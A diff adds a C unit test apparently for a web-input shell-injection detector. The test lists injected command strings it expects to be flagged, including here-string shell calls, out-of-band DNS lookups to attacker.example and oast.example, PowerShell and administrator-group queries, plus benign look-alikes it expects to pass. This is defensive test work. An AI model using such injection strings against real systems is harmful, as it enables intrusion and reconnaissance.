@@ -377,6 +377,22 @@ Test(webstruct, shell_history_and_windows_arguments)
     cr_assert(shell("x& reg query hklm\\software\\microsoft", FK_WS_PARAM));
 }
 
+Test(webstruct, shell_here_strings_network_probes_and_cmd_variables)
+{
+    cr_assert(shell("x;bash<<<id", FK_WS_PARAM));
+    cr_assert(shell("x;sh <<eof", FK_WS_PARAM));
+    cr_assert(shell("x;nslookup attacker.example", FK_WS_PARAM));
+    cr_assert(shell("x; dig x.oast.example", FK_WS_PARAM));
+    cr_assert(shell("x;powershell get-process", FK_WS_PARAM));
+    cr_assert(shell("x;echo %username%", FK_WS_PARAM));
+    cr_assert(shell("x;net localgroup administrators", FK_WS_PARAM));
+    /* a pipe into a word no system has is a title's punctuation */
+    cr_assert_not(shell("top 10 movies | imdb", FK_WS_PARAM));
+    cr_assert_not(shell("great; see example.com", FK_WS_PARAM));
+    cr_assert_not(shell("we net user growth", FK_WS_PARAM));
+    cr_assert_not(shell("50%off 20%", FK_WS_PARAM));
+}
+
 Test(webstruct, java_class_files_and_sensitive_packages)
 {
     cr_assert_str_eq(families_of("yv66vgaaadqaiqoabgaw", FK_WS_PARAM), "code");
